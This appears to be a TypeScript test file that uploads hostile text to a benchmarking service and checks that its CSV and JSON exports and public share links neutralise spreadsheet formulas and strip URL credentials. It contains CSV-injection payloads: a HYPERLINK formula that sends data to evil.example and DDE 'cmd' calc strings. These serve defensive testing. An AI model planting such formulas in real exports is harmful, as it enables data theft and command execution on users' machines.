import { readFileSync } from "node:fs";
import path from "node:path";
import { createIdempotencyRepository, createPrismaClient } from "@meshbench/db";
import { parseCsv } from "@meshbench/formats";
import { createServices } from "@meshbench/services";
import { useTestDatabase } from "@meshbench/testing/postgres";
import { fetchRequestHandler } from "@trpc/server/adapters/fetch";
import { beforeAll, describe, expect, it } from "vitest";
import type { Actor } from "../../context";
import { createRestHandler } from "../../rest";
import { appRouter } from "../../root";
import { demoMatrixDir } from "@meshbench/demo";
import { wireTransformer } from "../../wire/transformer";

/**
 * A `results:write` token plants spreadsheet formulas and credentials in every text field an
 * upload has; then everything that reads the run back over HTTP is fetched: the run and
 * comparison exports (members) and the public share links (view and exports, signed out).
 */
const ORIGIN = "http://meshbench.test";
const SECRET = "tok3n";
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-1+1",
];
const LEVEL = "qps-100/c8/p0/http1/ka";
const result = (file: string) => readFileSync(path.join(demoMatrixDir, file), "utf8");
const hostileUpload = (title: string) => ({
  benchmark: "hostile",
  title,
  git: {
    repo: `https://user:${SECRET}@github.com/x/y.git`,
    branch: FORMULAS[1],
    commit: FORMULAS[2],
    pr: FORMULAS[3],
  },
  mesh: { name: FORMULAS[0], version: "-2" },
  labels: { note: "-1+1", link: `https://admin:${SECRET}@internal.example/x?token=${SECRET}` },
  trials: [
    { result: result("baseline-qps100-c8-rep1.json"), variant: "baseline" },
    { result: result("nginx-qps100-c8-rep1.json"), variant: "nginx" },
  ],
});

/** A cell a spreadsheet would evaluate: starts with a formula character and is not a number. */
const formulaCells = (csv: string) =>
  parseCsv(csv)
    .flat()
    .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !Number.isFinite(Number(cell)));

describe("hostile text in uploads, read back over HTTP (real database)", () => {
  const db = useTestDatabase(createPrismaClient);
  let workspaceId: string;
  const runIds: string[] = [];
  const services = () => createServices(db());
  const tokenActor = (): Actor => ({
    userId: null,
    workspaceId,
    role: "member",
    via: "token",
    tokenId: null,
    scopes: ["results:write"],
  });
  const member = (): Actor => ({ userId: null, workspaceId, role: "member", via: "session" });

  /** One tRPC call over HTTP, as /api/trpc serves it; returns the deserialised data. */
  async function trpc(actor: Actor | null, procedure: string, input: unknown, mutation = false) {
    const serialized = JSON.stringify(wireTransformer.serialize(input));
    const url = `${ORIGIN}/api/trpc/${procedure}${mutation ? "" : `?input=${encodeURIComponent(serialized)}`}`;
    const response = await fetchRequestHandler({
      endpoint: "/api/trpc",
      router: appRouter,
      req: new Request(
        url,
        mutation
          ? { method: "POST", body: serialized, headers: { "content-type": "application/json" } }
          : {},
      ),
      createContext: () => ({ services: services(), actor }),
    });
    const text = await response.text();
    expect(response.status, text).toBe(200);
    const body = JSON.parse(text) as {
      result: { data: Parameters<typeof wireTransformer.deserialize>[0] };
    };
    return { text, data: wireTransformer.deserialize<Record<string, unknown>>(body.result.data) };
  }
  const file = async (actor: Actor | null, procedure: string, input: unknown) =>
    (await trpc(actor, procedure, input)).data as { body: string; contentType: string };

  beforeAll(async () => {
    workspaceId = (await db().workspace.create({ data: { slug: "hostile", name: "Hostile" } })).id;
    const rest = createRestHandler({
      idempotency: () => createIdempotencyRepository(db()),
      createContext: () => Promise.resolve({ services: services(), actor: tokenActor() }),
      trustedOrigins: [ORIGIN],
    });
    for (const title of [FORMULAS[0]!, `${FORMULAS[3]} https://ci:${SECRET}@ci.example/job`]) {
      const response = await rest(
        new Request(`${ORIGIN}/api/v1/results`, {
          method: "POST",
          headers: { "content-type": "application/json" },
          body: JSON.stringify(hostileUpload(title)),
        }),
      );
      expect(response.status, await response.clone().text()).toBe(200);
      runIds.push(((await response.json()) as { runId: string }).runId);
    }
  });

  const comparison = () => ({
    items: runIds.flatMap((runId) =>
      ["baseline", "nginx"].map((variant) => ({ runId, variant, levelKey: LEVEL })),
    ),
    reference: 0,
  });

  it("CSV exports (run, comparison) keep every planted formula as text", async () => {
    const run = await file(member(), "reports.exportRun", { runId: runIds[0], format: "csv" });
    const compared = await file(member(), "reports.exportComparison", {
      state: comparison(),
      format: "csv",
    });
    for (const csv of [run.body, compared.body]) expect(formulaCells(csv)).toEqual([]);
    const cells = parseCsv(run.body).flat();
    // exported, neutralised: each hostile text is there, behind one quote
    for (const text of FORMULAS) expect(cells).toContain(`'${text}`);
    expect(
      parseCsv(compared.body)
        .flat()
        .some((c) => c.startsWith(`'${FORMULAS[0]!.slice(0, 20)}`)),
    ).toBe(true);
    // negative numbers are still numbers (the comparison's deltas and intervals have some)
    expect(cells.some((c) => /^-\d/.test(c) && Number.isFinite(Number(c)))).toBe(true);
  });

  it("members' exports carry no credentials from URLs", async () => {
    for (const format of ["csv", "json"]) {
      const run = await file(member(), "reports.exportRun", { runId: runIds[1], format });
      expect(run.body).not.toContain(SECRET);
      expect(run.body).toContain("https://github.com/x/y.git");
    }
  });

  it("a public share link shows no credential, in its view and both exports", async () => {
    const runLink = (await trpc(member(), "share.create", { kind: "run", runId: runIds[1] }, true))
      .data as { id: string };
    const cmpLink = (
      await trpc(member(), "share.create", { kind: "comparison", comparison: comparison() }, true)
    ).data as { id: string };
    for (const id of [runLink.id, cmpLink.id]) {
      const view = await trpc(null, "share.view", { id });
      expect(view.text).not.toContain(SECRET);
      expect(view.text).not.toMatch(/github\.com|internal\.example|ci\.example/);
      for (const format of ["csv", "json"]) {
        const exported = await file(null, "share.export", { id, format });
        expect(exported.body).not.toContain(SECRET);
        if (format === "csv") expect(formulaCells(exported.body)).toEqual([]);
      }
    }
    const shared = (await trpc(null, "share.view", { id: runLink.id })).data as {
      report: { run: { gitRepo: string } };
    };
    expect(shared.report.run.gitRepo).toBe("https://<host>/x/y.git");
  });
});
